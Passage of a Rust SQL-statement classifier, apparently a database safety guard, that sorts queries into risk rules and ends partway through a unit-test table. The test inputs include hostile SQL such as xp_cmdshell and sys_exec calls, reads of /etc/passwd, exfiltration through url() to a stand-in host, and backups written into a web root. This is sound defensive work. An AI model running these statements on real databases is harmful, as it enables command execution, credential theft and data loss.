//! What statements do, as the rules about them want to know: their kinds, what they are done to, and what stands anywhere in them.
//! Owns the way of a text through its statements, and what each first word leads to; how bad what was found is, the rules say.

use portcullis_syntax::sql::{self, Token, TokenKind};

use super::{
    FILE,
    narrow::is_passing,
    reach::{DYNAMIC, anywhere, in_quotes, read_files, texts_run, waits},
    rebuilt,
    shown::{keeps_credentials, takes_credentials, takes_hashes},
};
use crate::bound::Bounded;

mod batch;
mod beginning;
mod called;
mod definition;
mod dynamic;
mod kept;
mod known;
mod made;
mod outward;
mod rights;
mod rows;
mod undone;
mod verb;

use batch::{batches, runs_on};
use beginning::{OF_ROWS, is_unfamiliar};
use definition::{alter, body_keeps, create, drop, runs_as_its_owner};
use dynamic::{dynamic, run};
use made::Made;
use outward::outward;
use rights::{MIGHTY, holds_accounts, is_catalog, is_for_everybody};
use rows::{
    changes_history, chosen, insert, is_audit, merged, raises_account, sets_amounts, sets_payee,
};
pub(super) use verb::text_of;
use verb::{Verb, is_name, says};

/// How deep statements inside strings of statements are read.
const DEPTH: usize = 4;

/// What the statements of a text do: rules, each with what it is done to.
pub(super) type Found = Vec<(&'static str, String)>;

/// Finds what the statements in `text` do, whichever server reads it.
pub(super) fn read(text: &str, depth: usize, found: &mut Found) {
    if depth >= DEPTH {
        found.push(("query.dynamic", String::new()));
        return;
    }
    for (reading, tokens) in sql::readings(&batches(text)).into_iter().enumerate() {
        let statements: Vec<&[Token]> = tokens
            .split(|token| token.kind == TokenKind::Operator && &*token.text == ";")
            .collect();
        let mut made = Made {
            rebuilt: rebuilt::tables(&statements),
            for_tests: rebuilt::for_tests(&statements),
            anew: kept::made_anew(&statements),
            has_begin: statements.iter().any(|statement| begins_block(statement)),
            ..Made::default()
        };
        let undone = undone::taken_back(&statements);
        for (statement, is_undone) in statements.into_iter().zip(undone) {
            let mut told = Found::new();
            one(statement, depth, &mut made, &mut told);
            for (rule, name) in told {
                let is_changed = match rule {
                    "query.delete.all" | "query.delete.many" | "query.update.all"
                    | "query.update.many" => is_undone,
                    // What one server alone takes for a statement is strange to the others.
                    "query.unfamiliar" => reading > 0,
                    _ => false,
                };
                found.push((if is_changed { "query.change" } else { rule }, name));
            }
        }
    }
}

fn one(statement: &[Token], depth: usize, made: &mut Made, found: &mut Found) {
    // Where `#` begins no comment it begins no statement either; SQL Server's `#name` has no space in it.
    if let [hash, next, ..] = statement
        && &*hash.text == "#"
        && hash.span.range().end < next.span.range().start
    {
        return;
    }
    let of_rows = statement.first().is_some_and(|first| OF_ROWS.contains(&&*first.text));
    let words: Vec<&str> = statement
        .iter()
        .zip(statement.iter().skip(1).map(Some).chain([None]))
        .map(|(token, next)| match token.kind {
            TokenKind::Word | TokenKind::Operator => &*token.text,
            // Among rows it may be a column, or text as some servers quote it, unless it is called.
            TokenKind::Name if !of_rows || next.is_some_and(|next| &*next.text == "(") => {
                in_quotes(&token.text)
            }
            TokenKind::Name | TokenKind::Text | TokenKind::Number => "",
        })
        .collect();
    let word = |index: usize| words.get(index).copied().unwrap_or("");
    if matches!(word(0), "EXPLAIN" | "DESCRIBE" | "DESC")
        && !words.iter().leading(4).any(|word| *word == "ANALYZE")
    {
        return;
    }
    anywhere(statement, &words, found);
    waits(statement, &words, found);
    if takes_hashes(statement, &words) {
        found.push(("query.hashes", String::new()));
    }
    if takes_credentials(statement) || keeps_credentials(statement, &words) || body_keeps(statement)
    {
        found.push(("query.credentials", String::new()));
    }
    read_files(statement, words.as_slice(), found);
    for text in texts_run(statement, &words) {
        read(text, depth + 1, found);
    }
    made.assign(statement);
    made.declare(statement);
    made.forget_scratch(&words);
    for body in made.called(statement, &words) {
        read(&body, depth + 1, found);
    }
    made.define(statement);
    defined(statement, depth, found);
    if depth == 0
        && statement.len() > 1
        && let Some(rule) = strange(statement, &words, made.in_block)
    {
        found.push((rule, String::new()));
    }
    made.in_block |= made.has_begin && (words.contains(&"DECLARE") || begins_block(statement));
    if called::administers(statement, &words) {
        found.push(("query.unfamiliar", String::new()));
    }
    let mut start = true;
    for index in 0..statement.len() {
        if start || runs_on(&words, index) {
            begin(Verb { statement, words: &words, at: index }, depth, made, found);
        }
        // Behind `SELECT x AS` stands a name.
        start = matches!(
            word(index),
            "(" | "BEGIN" | "THEN" | "ELSE" | "ANALYZE" | "DO" | ")" | "LOOP" | "VERBOSE"
        ) || word(index) == "AS" && word(0) != "SELECT";
    }
}

/// Whether a statement begins a block of a language of procedures: a `BEGIN` that begins no transaction.
fn begins_block(statement: &[Token]) -> bool {
    const OF_TRANSACTIONS: &[&str] = &[
        "CONCURRENT",
        "DEFERRED",
        "EXCLUSIVE",
        "IMMEDIATE",
        "ISOLATION",
        "READ",
        "TRAN",
        "TRANSACTION",
        "WORK",
    ];
    let is = |token: &Token, word: &str| token.kind == TokenKind::Word && &*token.text == word;
    statement.iter().enumerate().any(|(at, token)| {
        is(token, "BEGIN")
            && statement
                .get(at + 1)
                .is_some_and(|next| !OF_TRANSACTIONS.iter().any(|word| is(next, word)))
    })
}

/// The rule of a statement whose first word says nothing to us: a procedure is judged by its name, and in a block an assignment or a declaration is none.
fn strange(statement: &[Token], words: &[&str], in_block: bool) -> Option<&'static str> {
    let first = words.first().copied().unwrap_or("");
    // Without `EXEC`, a procedure may be named in quotes.
    let is_named = statement.first().is_some_and(|token| token.kind == TokenKind::Name);
    if !is_named && !is_unfamiliar(first) {
        return None;
    }
    let verb = Verb { statement, words, at: 0 };
    let mut last = 0;
    while verb.word(last + 1) == "." {
        last += 2;
    }
    let is_call = matches!(first, "CALL") || is_named || verb.word(last + 1) == "(";
    if in_block && !is_call {
        return Some("query.change");
    }
    let name = usize::from(first == "CALL");
    Some(if is_call && !called::calls_open(verb, name) {
        "query.change"
    } else {
        "query.unfamiliar"
    })
}

/// What is only defined runs when somebody calls it, as whoever that is; what then leaves the database is told where it is written.
fn defined(statement: &[Token], depth: usize, found: &mut Found) {
    let is = |token: &Token, word: &str| token.kind == TokenKind::Word && &*token.text == word;
    let defines = statement.first().is_some_and(|first| is(first, "CREATE"))
        && statement.iter().leading(6).any(|token| {
            ["FUNCTION", "PROCEDURE", "TRIGGER", "EVENT"].iter().any(|word| is(token, word))
        });
    if !defines {
        return;
    }
    let mut inner = Found::new();
    for body in statement.iter().filter_map(|token| text_of(Some(token))) {
        read(body, depth + 1, &mut inner);
    }
    let leaves = |rule: &str| {
        rule == FILE || matches!(rule, "query.program" | "query.remote" | "query.export")
    };
    found.extend(inner.into_iter().filter(|(rule, _)| leaves(rule)));
}

/// Whether the table at a place, or the schema that it is of, is called after what is there to go.
fn goes_anyway(verb: Verb<'_>, table: usize) -> bool {
    let mut at = table;
    while verb.word(at + 1) == "." {
        if is_passing(&verb.name(at)) {
            return true;
        }
        at += 2;
    }
    is_passing(&verb.name(at))
}

/// How many words `TOP (500) PERCENT` takes behind the verb.
fn behind_top(verb: Verb<'_>) -> usize {
    if verb.word(1) != "TOP" {
        return 0;
    }
    let end = (2..8).find(|at| verb.word(*at) == ")").unwrap_or(2);
    if verb.word(end + 1) == "PERCENT" { end + 1 } else { end }
}

/// What the statement that begins at `at` does.
fn begin(verb: Verb<'_>, depth: usize, made: &mut Made, found: &mut Found) {
    let Verb { statement, words, at } = verb;
    let word = |index: usize| verb.word(index);
    let skip = |from: usize, skipped: &[&str]| verb.skip(from, skipped);
    // `ON CONFLICT DO UPDATE` and `WHEN MATCHED THEN` touch the rows that were matched.
    let before = at.checked_sub(1).and_then(|at| words.get(at)).copied().unwrap_or("");
    let first = words.first().copied().unwrap_or("");
    // A comment may hide the first word of it in one of the readings.
    let is_branch = || {
        let last = at.checked_sub(2).and_then(|at| words.get(at));
        first == "INSERT" && matches!(last, Some(&("MATCHED" | "SOURCE" | "TARGET")))
    };
    let matched = first == "INSERT" && before == "DO"
        || before == "THEN" && (first == "MERGE" || is_branch());
    if matches!(word(0), "DELETE" | "DROP" | "INSERT" | "TRUNCATE" | "UPDATE")
        && made.is_elsewhere(verb)
    {
        found.push(("query.remote", String::new()));
    }
    // What was the session's own may be gone, and the name another's.
    if matches!(word(0), "COMMIT" | "DISCARD" | "ROLLBACK") {
        made.temporary.clear();
    }
    match word(0) {
        "UPDATE" | "DELETE" if matched => found.push((merged(verb, first), String::new())),
        "INSERT" | "UPDATE" | "DELETE" | "REPLACE" if holds_accounts(words, at) => {
            found.push(("query.grant", String::new()));
        }
        "DO" if first == "INSERT" => {}
        "DROP" => {
            drop(verb, made, found);
            made.forget_temporary(verb);
        }
        "TRUNCATE" if word(1) != "(" => {
            let table = skip(1, &["TABLE", "ONLY"]);
            if verb.names_table(table) {
                let is_own = made.holds(verb, table);
                let rule = verb.unless_temporary(table, "query.truncate");
                found.push((if is_own { "query.change" } else { rule }, verb.name(table)));
            }
        }
        // Oracle: `WHEN MATCHED THEN UPDATE SET … DELETE WHERE …`.
        "DELETE" if first == "MERGE" && word(1) == "WHERE" => {
            found.push(("query.delete.many", String::new()));
        }
        "DELETE" => {
            // `DELETE a, b.* FROM …` names aliases first; without a `FROM` only a whole statement is one.
            let top = behind_top(verb);
            let aliases = words
                .iter()
                .skip(at + 1 + top)
                .take_while(|word| !matches!(**word, "WHERE" | "(" | ")" | ";"))
                .position(|word| *word == "FROM")
                .unwrap_or(0);
            let table =
                skip(1 + top + aliases, &["FROM", "ONLY", "IGNORE", "QUICK", "LOW_PRIORITY"]);
            let is_named = table > 1 || at == 0 && statement.get(1).is_some_and(is_name);
            let is_schema = (table..table + 3)
                .any(|at| matches!(verb.word(at), "SQLITE_MASTER" | "SQLITE_SCHEMA"));
            let is_catalog = (table..table + 3).any(|at| is_catalog(&verb.name(at)));
            if is_named && (is_schema || is_catalog) {
                found.push(("query.server", verb.name(table)));
            } else if is_named && verb.names_table(table) {
                let is_own = made.holds(verb, table)
                    || aliases == 0 && verb.has("WHERE") && made.is_temporary(verb, table);
                let rule = verb.unless_temporary(table, verb.deleted());
                let is_own = is_own || rule == "query.delete.many" && goes_anyway(verb, table);
                found.push((if is_own { "query.change" } else { rule }, verb.name(table)));
                if !is_own && is_audit(verb, table) {
                    found.push(("query.audit.changed", verb.name(table)));
                }
            }
        }
        "UPDATE" if verb.has("SET") => {
            let table = skip(1, &["ONLY", "IGNORE", "OR", "LOW_PRIORITY"]);
            let is_own = made.is_temporary(verb, table);
            if (table..table + 3).any(|at| is_catalog(&verb.name(at))) {
                found.push(("query.server", verb.name(table)));
            }
            let rule = verb.unless_temporary(table, verb.rows("query.update.all"));
            found.push((if is_own { "query.change" } else { rule }, verb.name(table)));
            let update = statement.get(at..).unwrap_or_default();
            if is_audit(verb, table) && changes_history(update) {
                found.push(("query.audit.changed", verb.name(table)));
            }
            if raises_account(verb, table) {
                found.push(("query.account.changed", verb.name(table)));
            }
            if sets_payee(update) {
                found.push(("query.payee", verb.name(table)));
            }
            let is_wide = rule == "query.change" && !is_own && !goes_anyway(verb, table);
            if is_wide && sets_amounts(update) && !chosen(statement, words, at) {
                found.push(("query.update.many", verb.name(table)));
            }
        }
        "INSERT" | "MERGE" | "REPLACE" | "UPSERT" if word(1) != "(" => insert(verb, made, found),
        "ALTER" => {
            alter(verb, made, found);
            made.forget_temporary(verb);
        }
        "CREATE" => {
            create(verb, made, found);
            if runs_as_its_owner(verb) {
                found.push(("query.grant", String::new()));
            }
        }
        "GRANT"
            if verb.has("ALL")
                || verb.has("OPTION")
                || words.iter().skip(at).any(|word| MIGHTY.contains(word))
                || is_for_everybody(verb) =>
        {
            found.push(("query.grant", String::new()));
        }
        // Triggers and the constraints that are made of them rest; nothing is written to what others copy from.
        "SET"
            if verb.has("SESSION_REPLICATION_ROLE")
                && (verb.has("REPLICA") || says(verb, "replica"))
                || verb.has("SQL_LOG_BIN") && !verb.has("1") && !verb.has("ON") =>
        {
            found.push(("query.server", String::new()));
        }
        "SET" if word(1) == "PASSWORD" => found.push(("query.grant", String::new())),
        "REASSIGN" if word(1) == "OWNED" => found.push(("query.grant", String::new())),
        "ATTACH" if verb.is_own() => {
            made.attach(verb);
            outward(verb, made, found);
        }
        "EXECUTE" | "EXEC" | "PREPARE" | "DO" => run(verb, depth, made, found),
        // The first word of all needs no `EXEC`.
        first if at == 0 && verb.has(DYNAMIC) && (first.is_empty() || is_unfamiliar(first)) => {
            dynamic(statement, at, depth, made, found);
        }
        "NOAUDIT" => found.push(("query.audit.off", String::new())),
        _ if verb.is_own() => outward(verb, made, found),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::read;

    #[test]
    fn statements_are_judged_by_what_they_do() {
        let mut wrong = Vec::new();
        for (text, expected) in [
            ("DROP/*x*/ TABLE users", "query.drop.table"),
            ("/*!50000DROP*/ DATABASE x", "query.drop.table"),
            ("EXECUTE IMMEDIATE 'DR' || 'OP TABLE users'", "query.drop.table"),
            ("DO $$ BEGIN DELETE FROM a; END $$", "query.delete.all"),
            ("EXPLAIN ANALYZE DELETE FROM a", "query.delete.all"),
            ("DELETE FROM a WHERE id = id", "query.delete.all"),
            ("DELETE FROM a WHERE x = 1 OR 1=1", "query.delete.all"),
            ("BEGIN; TRUNCATE a; COMMIT", "query.truncate"),
            ("SELECT load_extension('x')", "query.program"),
            ("CREATE USER x IDENTIFIED BY 'x'", "query.grant"),
            ("DELETE o, c.* FROM orders o JOIN c ON c.id = o.c", "query.delete.all"),
            ("DELETE orders", "query.delete.all"),
            ("DELETE o FROM orders o JOIN c ON c.id = o.c WHERE c.id = 7", "query.change"),
            ("DELETE TOP (10) FROM orders", "query.change"),
            ("DELETE FROM orders LIMIT 1000000", "query.delete.all"),
            ("DELETE FROM orders LIMIT 18446744073709551616", "query.delete.all"),
            ("DELETE FROM orders LIMIT ALL", "query.delete.all"),
            ("DELETE TOP (100) PERCENT FROM orders", "query.delete.all"),
            ("SELECT SLEEP(5 * 1000)", "query.sleep"),
            ("SELECT pg_sleep(9) FROM generate_series(1, 100000)", "query.sleep"),
            ("MERGE INTO a USING b ON (1=1) WHEN MATCHED THEN DELETE", "query.delete.all"),
            ("MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE", "query.change"),
            ("UPDATE mysql.user SET Host = '%' WHERE User = 'root'", "query.grant"),
            ("INSERT INTO pg_shadow VALUES ('x')", "query.grant"),
            (r"BACKUP DATABASE a TO DISK = '\\files.example.net\s\a.bak'", "query.remote"),
            ("RESTORE DATABASE a FROM DISK = 'a.bak' WITH REPLACE", "query.server"),
            ("DROP TEMPORARY TABLE a", "query.drop.part"),
            ("FROBNICATE TABLE users", "query.unfamiliar"),
            ("[dbo].[purge_users] 5", "query.unfamiliar"),
            ("[master]..[xp_cmdshell] 'whoami'", "query.program"),
            ("EXEC [master].[dbo].[xp_cmdshell] 'whoami'", "query.program"),
            ("SELECT \"pg_read_file\"('/etc/passwd')", "query.file"),
            ("SELECT `sys_exec`('id')", "query.program"),
            ("[sp_executesql] N'DROP TABLE users'", "query.drop.table"),
            ("EXEC [sys].[sp_executesql] @text", "query.dynamic"),
            ("DECLARE @p sysname = 'xp_cmdshell'; EXEC @p 'dir'", "query.dynamic"),
            ("EXEC @result = dbo.count_users", "query.change"),
            ("EXEC @result = dbo.close_year", "query.unfamiliar"),
            ("EXEC sp_rename 'users', 'old'", "query.unfamiliar"),
            ("EXEC report_purge", "query.unfamiliar"),
            ("CALL reporting.monthly(2025)", "query.change"),
            ("DECLARE @x int; wipe everything now", "query.unfamiliar"),
            ("DECLARE @t TABLE (a int); DELETE FROM @t WHERE a > 3", "query.change"),
            ("DELETE FROM @users", "query.delete.all"),
            ("CREATE TABLE tmp_a (a int); DROP TABLE tmp_a", "query.drop.part"),
            ("CREATE TABLE tmp_a (a int); DROP TABLE tmp_a, users", "query.drop.table"),
            ("CREATE TABLE tmp_a (a int); USE prod; DROP TABLE tmp_a", "query.drop.table"),
            ("CREATE TABLE sessions (a int); DROP TABLE sessions", "query.drop.table"),
            ("CREATE SCHEMA tmp_s; DROP SCHEMA tmp_s CASCADE", "query.drop.table"),
            ("DELETE FROM a WHERE lower(status) = 'x'", "query.delete.many"),
            ("DELETE FROM a WHERE paid = false", "query.delete.many"),
            ("DELETE FROM a WHERE price BETWEEN 0 AND 50", "query.delete.many"),
            ("DELETE FROM a WHERE id IN (SELECT max(id) FROM a GROUP BY id)", "query.delete.many"),
            ("DELETE FROM a WHERE expires_at < '9999-01-01'", "query.delete.many"),
            ("DELETE FROM sessions_archive WHERE a > 3", "query.delete.many"),
            ("BEGIN TRAN COMMIT; DELETE FROM a WHERE b > 3; ROLLBACK", "query.delete.many"),
            ("BEGIN; DELETE FROM a; ROLLBACK", "query.change"),
            ("DROP DATABASE IF EXISTS shop_test; CREATE DATABASE shop_test", "query.change"),
            ("DROP DATABASE shop_test", "query.drop.table"),
            ("DROP DATABASE prod_ci; CREATE DATABASE prod_ci", "query.drop.table"),
            ("DROP DATABASE test; CREATE DATABASE test", "query.drop.table"),
            ("DROP DATABASE shop; CREATE DATABASE shop_test", "query.drop.table"),
            ("BEGIN TRANSACTION; UPDATE a SET b = 1; ROLLBACK TRANSACTION", "query.change"),
            ("BEGIN; UPDATE a SET b = 1; COMMIT", "query.update.all"),
            (
                "DELETE TOP (500) FROM dbo.HttpCache WHERE ExpiresAt < SYSUTCDATETIME()",
                "query.change",
            ),
            ("UPDATE pg_database SET datallowconn = false", "query.server"),
            ("DELETE FROM pg_catalog.pg_class WHERE relname = 'a'", "query.server"),
            ("SET CLUSTER SETTING server.x = 'y'", "query.server"),
            ("SELECT pg_cancel_backend(20411)", ""),
            ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "query.unfamiliar"),
            ("SELECT * EXCEPT (ssn) FROM t", ""),
            ("SELECT ssn FROM a EXCEPT (SELECT ssn FROM b)", "query.credentials"),
            ("SELECT a.id AS [drop table], a.b FROM a", ""),
            ("EXEC @result = sys.sp_who", ""),
            ("SELECT name FROM t WHERE called = \"load_file\"", ""),
            ("SELECT U&\"pg_read\\005ffile\"('/etc/passwd')", "query.dynamic"),
            ("CREATE EXTENSION IF NOT EXISTS \"plpython3u\"", "query.program"),
            ("CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE 'plpythonu'", "query.program"),
            ("DELETE FROM a WHERE id IN (SELECT id FROM a)", "query.delete.all"),
            ("DELETE FROM a WHERE id IN (SELECT id FROM b)", "query.delete.many"),
            ("DELETE FROM a WHERE id IN (SELECT id FROM a WHERE x = 1)", "query.change"),
            ("DELETE FROM a WHERE id IN (FROM a SELECT id)", "query.delete.all"),
            ("DELETE FROM a WHERE id IN (SELECT x.id FROM a AS x)", "query.delete.all"),
            ("DELETE FROM a WHERE id IN (SELECT x.id FROM a x LIMIT 3)", "query.change"),
            ("DELETE FROM a WHERE id = ANY (ARRAY(SELECT id FROM a))", "query.delete.all"),
            ("DELETE FROM a WHERE id >= (SELECT min(id) FROM a)", "query.delete.all"),
            ("DELETE FROM a WHERE id > (SELECT min(id) FROM a)", "query.delete.many"),
            ("DELETE FROM a WHERE id >= (SELECT min(id) FROM b)", "query.delete.many"),
            ("DELETE FROM a x USING a y WHERE x.id = y.id", "query.delete.all"),
            (
                "DELETE FROM a x USING a y WHERE x.id < y.id AND x.mail = y.mail",
                "query.delete.many",
            ),
            ("DELETE FROM a x USING b y WHERE x.id = y.id", "query.delete.many"),
            (
                "WITH k AS (SELECT id FROM a) DELETE FROM a WHERE id IN (SELECT id FROM k)",
                "query.delete.all",
            ),
            (
                "WITH k AS (SELECT id FROM a) DELETE FROM a USING k WHERE a.id = k.id",
                "query.delete.all",
            ),
            (
                "WITH k AS (SELECT id FROM a WHERE x = 1) DELETE FROM a USING k WHERE a.id = k.id",
                "query.delete.many",
            ),
            (
                "WITH k AS (SELECT id FROM a WHERE x = 1) DELETE FROM a WHERE id IN (SELECT id FROM k)",
                "query.delete.many",
            ),
            (
                "DELETE FROM a WHERE EXISTS (SELECT 1 FROM a x WHERE x.id = a.id)",
                "query.delete.all",
            ),
            (
                "DELETE FROM a WHERE EXISTS (SELECT 1 FROM b x WHERE x.id = a.id)",
                "query.delete.many",
            ),
            ("DELETE FROM a WHERE created_at < now() + interval '1 day'", "query.delete.all"),
            ("DELETE FROM a WHERE created_at < now() - interval '1 day'", "query.delete.many"),
            (
                "MERGE INTO a t USING a s ON t.id = s.id WHEN MATCHED THEN UPDATE SET b = 1",
                "query.update.all",
            ),
            (
                "MERGE #a t USING b s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
                "query.change",
            ),
            (
                "INSERT INTO a (id, b) SELECT id, 0 FROM a ON CONFLICT (id) DO UPDATE SET b = 0",
                "query.update.all",
            ),
            (
                "INSERT INTO a (id, b) SELECT id, 0 FROM b ON CONFLICT (id) DO UPDATE SET b = 0",
                "query.change",
            ),
            ("ALTER TABLE a DELETE WHERE 1 SETTINGS mutations_sync = 2", "query.delete.all"),
            (
                "LOAD DATA OVERWRITE a FROM FILES (format = 'CSV', uris = ['gs://x/y'])",
                "query.delete.all",
            ),
            ("FROM read_csv('https://x.example/?d=' || getvariable('k'))", "query.export"),
            (
                "SELECT * FROM url('https://x.example/?d=' || (SELECT k FROM s), CSV)",
                "query.export",
            ),
            (
                "SELECT * FROM read_csv('https://x.example/a' || '.csv')",
                "query.file read at a path",
            ),
            ("SELECT * FROM read_csv('ps aux |')", "query.program"),
            ("CALL postgres_execute('pg', 'TRUNCATE a')", "query.truncate"),
            (
                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM a; END $$; CALL p()",
                "query.delete.all",
            ),
            (
                "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM a; END $$",
                "query.change",
            ),
            (
                "CREATE PROCEDURE p() RETURNS STRING LANGUAGE JAVASCRIPT AS $$ snowflake.execute({sqlText: \"DELETE FROM a\"}) $$; CALL p()",
                "query.delete.all",
            ),
            ("EXECUTE IMMEDIATE $$ BEGIN RETURN 1; END $$", ""),
            (
                "CREATE TABLE a ENGINE = URL('https://x.example/in', CSV) AS SELECT * FROM b",
                "query.export",
            ),
            ("CREATE TABLE a ENGINE = MergeTree ORDER BY x AS SELECT * FROM b", "query.change"),
            ("DELETE FROM sqlite_master WHERE type = 'trigger'", "query.server"),
            ("OPTIMIZE TABLE a FINAL DEDUPLICATE BY b", "query.delete.all"),
            ("OPTIMIZE TABLE a FINAL", ""),
            ("ALTER TABLE a APPEND FROM b", "query.part.moved"),
            ("ALTER TABLE a RENAME TO b; ALTER TABLE c RENAME TO a", "query.part.moved"),
            ("ALTER TABLE a RENAME TO b", "query.change"),
            ("RENAME TABLE a TO b, c TO a", "query.part.moved"),
            ("RENAME TABLE a TO b, c TO d", "query.change"),
            ("DROP ALL ROW ACCESS POLICIES ON a", "query.guard.off"),
            ("FLASHBACK TABLE a TO TIMESTAMP b", "query.expire"),
            ("FLASHBACK TABLE a TO BEFORE DROP", ""),
            ("BEGIN DBMS_RLS.DROP_POLICY('a', 'b', 'c'); END", "query.guard.off"),
            (
                "DELETE FROM a WHERE id IN (SELECT id FROM a ORDER BY id LIMIT -1)",
                "query.delete.all",
            ),
            ("DELETE FROM a WHERE id IN (SELECT id FROM a ORDER BY id LIMIT 10)", "query.change"),
            (
                "CREATE OR REPLACE TABLE a AS SELECT * FROM a QUALIFY row_number() OVER () = 1",
                "query.drop.table",
            ),
            (
                "ATTACH 'host=db.example' AS pg (TYPE postgres); DELETE FROM pg.a WHERE id = 7",
                "query.remote",
            ),
            ("CREATE OR REPLACE TEMP TABLE a AS SELECT 1; UPDATE a SET b = 1", "query.change"),
            ("CREATE TEMPORARY TABLE a (b int); INSERT OVERWRITE INTO a SELECT 1", "query.change"),
            ("RESTORE HEADERONLY FROM DISK = 'a.bak'", ""),
            ("SYSTEM DROP DNS CACHE", ""),
            (
                "DECLARE @q nvarchar(99) = N'SELECT 1 FROM ' + QUOTENAME(N'a'); EXEC sp_executesql @q",
                "",
            ),
            ("DROP TRIGGER tr_audit", "query.audit.off"),
            ("DROP TRIGGER stamp ON a", "query.drop.part"),
            ("DETACH TABLE a PERMANENTLY", "query.drop.table"),
            ("DETACH TABLE a", ""),
            ("DBCC CHECKDB ('a', REPAIR_ALLOW_DATA_LOSS)", "query.delete.all"),
            ("DBCC CHECKDB ('a')", ""),
            ("DELETE FROM a WHERE COALESCE(b, false) IN (true, false)", "query.delete.all"),
            ("DELETE FROM a WHERE b IS NULL OR b IS NOT NULL", "query.delete.all"),
            ("DELETE FROM a WHERE (1 = 1) AND TRUE", "query.delete.all"),
            ("DELETE FROM a WHERE 2 > 1", "query.delete.all"),
            ("DELETE FROM a WHERE id > 0", "query.delete.all"),
            ("DELETE FROM a WHERE name LIKE '%'", "query.delete.all"),
            ("DELETE FROM a WHERE name LIKE 'x%' AND 1 = 1", "query.delete.many"),
            ("UPDATE a SET b = 1 WHERE id IS NOT NULL", "query.update.all"),
            ("UPDATE a SET b = 1 WHERE parent_id IS NOT NULL", "query.change"),
            ("ALTER SERVER ROLE sysadmin ADD MEMBER [web]", "query.grant"),
            ("DO $$ BEGIN EXECUTE r.cmd; END $$", "query.dynamic"),
            ("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", "query.drop.table"),
            (
                "CREATE TRIGGER t BEFORE INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()",
                "query.change",
            ),
            (
                "MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
                "query.delete.all",
            ),
            (
                "MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE AND a.x < 3 THEN DELETE",
                "query.change",
            ),
            ("COPY INTO 's3://x/y' FROM t", "query.export"),
            ("COPY INTO t FROM 's3://x/y'", "query.file at a path"),
            ("COPY t TO 's3://x/y.parquet'", "query.export"),
            ("EXPORT DATA OPTIONS (uri = 'gs://x/*') AS SELECT 1", "query.export"),
            ("UNLOAD ('SELECT 1') TO 's3://x'", "query.export"),
            ("INSERT INTO FUNCTION url('https://x') SELECT 1", "query.export"),
            ("INSERT INTO FUNCTION file('/etc/cron.d/x') SELECT 1", "query.file at a path"),
            ("INSERT OVERWRITE TABLE a SELECT 1", "query.delete.all"),
            ("INSERT OVERWRITE TABLE a PARTITION (d = 1) SELECT 1", "query.change"),
            ("EXEC('master..xp_dirtree ''\\\\' + @h + '\\x''')", "query.file"),
            ("EXEC('DROP ' + @what)", "query.dynamic"),
            ("EXEC sp_MSforeachtable 'DELETE FROM ?'", "query.delete.all"),
            ("EXEC sp_MSforeachtable @command1 = 'DROP TABLE ?'", "query.drop.table"),
            ("SELECT cron.schedule('x', '* * * * *', $$DELETE FROM a$$)", "query.delete.all"),
            ("SELECT cron.schedule('x', '* * * * *', 'SELECT 1')", "query.schedule"),
            ("SELECT * FROM cron.job", ""),
            ("SELECT net.http_post(url := 'https://x')", "query.remote"),
            ("CREATE TABLE public.http_get (a int)", "query.change"),
            ("CREATE FUNCTION f() RETURNS int AS 'x.so', 'f' LANGUAGE C", "query.program"),
            ("CREATE OR REPLACE SCHEMA a", "query.drop.table"),
            ("CREATE OR REPLACE VIEW a AS SELECT 1", "query.change"),
            ("ALTER TABLE a DELETE WHERE 1", "query.delete.all"),
            ("ALTER TABLE a ON CLUSTER c UPDATE b = 1 WHERE 1", "query.update.all"),
            ("ALTER TABLE a DELETE WHERE id = 7", "query.change"),
            ("ALTER TABLE a ALTER COLUMN b DROP NOT NULL", "query.change"),
            ("ALTER DATABASE a SET OFFLINE", "query.server"),
            ("CREATE TEMP TABLE a (b int); DROP TABLE a", "query.drop.part"),
            ("DROP TABLE IF EXISTS pg_temp.a", "query.drop.part"),
            ("DROP TABLE pg_temp.a, users", "query.drop.table"),
            ("DROP TABLE tempdb.dbo.a", "query.drop.table"),
            ("CREATE TEMP TABLE a (b int); DROP TABLE a, users", "query.drop.table"),
            ("CREATE TEMP TABLE a (b int); DROP TABLE public.a", "query.drop.table"),
            ("DROP TABLE #a", "query.drop.part"),
            ("TRUNCATE TABLE #a", "query.change"),
            ("TRUNCATE TABLE # a\nusers", "query.truncate"),
            ("DROP TABLE # a\nusers", "query.drop.table"),
            ("ALTER SERVER AUDIT [a] WITH (STATE = OFF)", "query.audit.off"),
            ("DROP DATABASE AUDIT SPECIFICATION a", "query.audit.off"),
            ("GRANT x ON SCHEMA a TO \"allUsers\"", "query.grant"),
            ("GRANT SELECT ON a TO ROLE PUBLIC", "query.grant"),
            ("CREATE STAGE s URL = 's3://x/'; COPY INTO @s/y FROM t", "query.export"),
            (
                "CREATE TRIGGER t AFTER UPDATE ON u FOR EACH ROW INSERT INTO s VALUES (NEW.password)",
                "query.credentials",
            ),
            ("BACKUP DATABASE a TO DISK = 'C:\\inetpub\\wwwroot\\a.aspx'", "query.file at a path"),
            ("BACKUP DATABASE a TO DISK = 'D:\\b\\a.bak'", "query.change"),
            (
                "CREATE TABLE n (a int, b int); INSERT INTO n SELECT a, b FROM t WHERE a > 7; DROP TABLE t; ALTER TABLE n RENAME TO t",
                "query.drop.table",
            ),
            ("SELECT 1 DROP TABLE users", "query.drop.table"),
            ("SELECT 1\nGO\nDROP TABLE users", "query.drop.table"),
            ("DELIMITER //\nDROP TABLE users//\nDELIMITER ;", "query.drop.table"),
            ("SELECT 5 # 3; DROP TABLE users", "query.drop.table"),
            ("SELECT 5--1; DROP TABLE users", "query.drop.table"),
            ("CREATE TABLE a (b int REFERENCES c (id) ON DELETE CASCADE)", "query.change"),
            ("DELETE FROM a WHERE created_at < now()", "query.delete.all"),
            ("DELETE FROM a WHERE created_at < now() - interval '1 year'", "query.delete.many"),
            ("DELETE FROM a WHERE expires_at < now()", "query.change"),
            ("DROP TYPE a CASCADE", "query.alter.drop"),
